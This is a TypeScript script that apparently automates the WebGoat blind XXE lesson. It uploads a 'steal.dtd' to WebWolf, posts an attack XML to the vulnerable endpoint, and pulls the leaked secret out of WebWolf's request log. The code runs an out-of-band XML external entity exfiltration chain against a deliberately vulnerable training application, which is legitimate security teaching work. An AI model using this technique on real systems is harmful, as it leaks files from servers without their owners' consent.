import { form, xml, Visitor } from '../visitor';
import { ACCOUNT, recordExercise, WEBWOLF } from '../webgoat';

const PATH = '/WebGoat/xxe/blind';
/** The port in the inputs. */
const USUAL = 'http://127.0.0.1:9090';
const BOUNDARY = 'webgoat-form';

/** A form with one file, as a browser sends it. */
function upload(name: string, text: string) {
  const head = `Content-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/xml-dtd`;
  const body = `--${BOUNDARY}\r\n${head}\r\n\r\n${text}\r\n--${BOUNDARY}--\r\n`;
  return { type: `multipart/form-data; boundary=${BOUNDARY}`, body };
}

/** The log's newest entry for the landing page, which is JSON in WebWolf's page. */
function landingEntry(html: string): string {
  const entries = [...html.matchAll(/<pre>(\{[^]*?)<\/pre>/g)].map(([, entry = '']) => entry);
  return entries.filter((entry) => entry.includes('/WebWolf/landing')).at(-1) ?? '';
}

/**
 * The file cannot be read within the body's own DTD. With a DTD on WebWolf the parser sends it in the address of a
 * request, which WebWolf logs; posted as a comment, it solves the exercise.
 */
export const record = recordExercise('XXE', async ({ file, keep, fail, solve }) => {
  const here = (name: string) => file(name).replaceAll(USUAL, WEBWOLF);
  const wolf = new Visitor(WEBWOLF);
  await wolf.send({ method: 'POST', path: '/WebWolf/login', ...form(ACCOUNT) });
  await fail({ method: 'POST', path: PATH, ...xml(here('internal.xml')) });
  keep(await wolf.send({ method: 'POST', path: '/WebWolf/fileupload', ...upload('steal.dtd', here('steal.dtd')) }));
  await fail({ method: 'POST', path: PATH, ...xml(here('attack.xml')) });
  const log = await wolf.send({ method: 'GET', path: '/WebWolf/requests', extract: landingEntry });
  keep(log);
  const address = /"uri" : "[^"]*\/landing\?text=([^"]*)"/.exec(landingEntry(log.body))?.[1] ?? '';
  const secret = decodeURIComponent(address);
  if (!secret) throw new Error(`WebWolf logged no secret:\n${landingEntry(log.body)}`);
  await solve({ method: 'POST', path: PATH, ...xml(`<comment><text>${secret}</text></comment>`) });
});
